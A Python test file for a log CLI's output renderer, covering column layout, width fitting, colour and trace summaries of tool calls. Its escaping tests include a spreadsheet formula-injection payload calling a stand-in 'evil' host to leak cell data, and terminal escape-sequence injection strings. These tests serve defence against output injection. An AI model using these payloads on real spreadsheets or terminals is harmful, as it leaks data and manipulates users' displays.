"""How entries and traces are written for a reader and for a program."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from godot.cli import options
from godot.cli.demo import bad, good
from godot.cli.render import FORMATS, columns_of, fit, harmless, pretty, renderer, table
from godot.cli.story import tell
from godot.entries.levels import LEVELS

TRACE = "4739a825-ad33-4958-853b-87d12479c5d4"


def entry(**fields: Any) -> dict[str, Any]:
    return {
        "id": "01a1fc45-61b4-76c5-87bf-2055fe4623ee",
        "created_at": "2026-11-21T04:02:46.874414Z",
        "ingested_at": "2026-11-21T04:02:47.874249Z",
        "level": "INFO",
        "component": "relay",
        "message": "hello",
        "trace_id": None,
        "data": None,
    } | fields


def line(output: str, *, color: bool = False, width: int | None = None, **fields: Any) -> str:
    return renderer(output, color=color, width=width)[1](entry(**fields))


def test_a_reader_sees_time_level_component_and_message_in_columns() -> None:
    assert line("pretty") == "2026-11-21 04:02:46.874Z INFO  relay        hello"
    assert (
        line("pretty", level="ERROR", component="gates", trace_id=TRACE, data={"a": [1]})
        == f'2026-11-21 04:02:46.874Z ERROR gates        hello  trace={TRACE} {{"a":[1]}}'
    )


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " ="])
@pytest.mark.parametrize("field", ["component", "message"])
def test_a_spreadsheet_runs_nothing_of_what_a_component_wrote(begin: str, field: str) -> None:
    text = f'{begin}HYPERLINK("http://evil/?"&A1)'
    head, render = renderer("csv", color=False, width=None)
    (row,) = csv.DictReader(io.StringIO(f"{head}\n{render(entry(**{field: text}))}\n", newline=""))
    assert row[field] == f"'{text}"


@pytest.mark.parametrize("output", ["pretty", "logfmt", "json", "csv"])
def test_nothing_that_a_component_wrote_reaches_the_terminal_as_a_command(output: str) -> None:
    nasty = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\u202egnp"
    shown = line(output, width=500, message=nasty, component=nasty, data={nasty: nasty})
    assert shown.isprintable()
    if output == "json":
        assert json.loads(shown)["message"] == nasty


def test_a_message_of_several_lines_stays_on_one() -> None:
    assert line("pretty", message="one\ntwo").endswith("one\\ntwo")
    assert line("raw", message="one\ntwo") == "one\ntwo"
    assert line("raw", width=80, message="one\ntwo\x1b[0m") == "one\\ntwo\\x1b[0m"


def test_a_line_is_cut_to_the_width_of_the_terminal_in_columns_not_characters() -> None:
    assert fit("abcdef", 4) == "abc…"
    assert fit("日本語", 6) == "日本語"
    assert fit("日本語", 5) == "日本…"
    assert columns_of(fit("日本語", 4)) <= 4
    assert fit("\x1b[1mabcdef\x1b[0m", 4) == "\x1b[1mabc…\x1b[0m"
    assert columns_of(pretty(entry(message="日" * 200), color=True, width=80)) <= 80


def test_colour_is_only_where_it_is_asked_for() -> None:
    assert "\x1b[1;31mERROR\x1b[0m" in line("pretty", color=True, level="ERROR")
    assert "\x1b" not in line("pretty", level="ERROR")


def test_programs_get_what_was_stored() -> None:
    fields: dict[str, Any] = {"message": 'a "quoted" = \n thing', "trace_id": TRACE, "data": {"b": 1}}
    assert json.loads(line("json", **fields)) == entry(**fields)
    head, render = renderer("csv", color=False, width=None)
    (row,) = csv.DictReader(io.StringIO(f"{head}\n{render(entry(**fields))}\n"))
    assert row["message"] == fields["message"]
    assert json.loads(row["data"]) == {"b": 1}
    logfmt = line("logfmt", **fields)
    assert 'message="a \\"quoted\\" = \\n thing"' in logfmt
    assert f"trace_id={TRACE} " in logfmt


def test_numbers_are_aligned_to_the_right() -> None:
    assert table([["a", "1"], ["bcd", "1,000"]], right=(1,)) == ["a        1", "bcd  1,000"]
    assert table([]) == []


def test_harmless_leaves_letters_of_all_languages_alone() -> None:
    assert harmless("Grüße, 世界 🎉") == "Grüße, 世界 🎉"


def told(rows: list[Any]) -> list[str]:
    entries = [
        entry(
            created_at=f"2026-11-21T04:02:46.{round(ms * 1000):06d}Z", component=component, level=level,
            message=message, data=data or None,
        )
        for ms, component, level, message, data in rows
    ]  # fmt: skip
    return list(tell(TRACE, entries, color=False, width=None))


def test_a_trace_tells_who_called_whom_in_order_with_durations() -> None:
    story = told(good())
    assert story[0] == f"trace {TRACE}"
    assert story[1].startswith(
        "12 entries of 3 components (relay, gates, dewey), 20.5 ms, 2026-11-21T04:02:46Z, no errors"
    )
    assert "   +0.4 ms  TRACE  relay  → gates  tools/call gates_read_file  forwarded" in story
    assert "   +4.1 ms  TRACE  dewey      ← gates  tools/call dewey_find_document  received" in story
    assert (
        "  +16.9 ms  TRACE  dewey      → gates  result of tools/call dewey_find_document after 12.8 ms  answered"
        in story
    )
    assert (
        "  +20.2 ms  TRACE  relay  ← gates  result of tools/call gates_read_file after 19.8 ms  got the answer" in story
    )
    assert not any("without an answer" in each for each in story)


def test_a_trace_tells_what_went_wrong() -> None:
    """BUG #13: a tool that is listed and cannot be called."""
    story = "\n".join(told(bad()))
    assert "1 error" in story
    assert "→ client  error of tools/call fiedler_draft after 0.5 ms: No such tool available: fiedler_draft" in story
    assert "← fiedler  result of tools/list after 8.0 ms: 1 tool" in story


def test_a_trace_names_what_was_never_answered() -> None:
    assert told(good()[:2])[-1] == "without an answer: tools/call gates_read_file of relay"


def test_a_trace_of_plain_entries_is_told_as_it_is() -> None:
    story = told(
        [(0, "a", "INFO", "one", {}), (1500, "b", "WARN", "two\x1b", {"jsonrpc": "2.0", "method": 5, "params": []})][:1]
    )
    assert story[-1] == "   +0.0 ms  INFO   a  one"


def test_the_short_names_that_help_shows_are_those_of_the_real_modules() -> None:
    assert options.LEVELS == LEVELS
    assert options.FORMATS == FORMATS
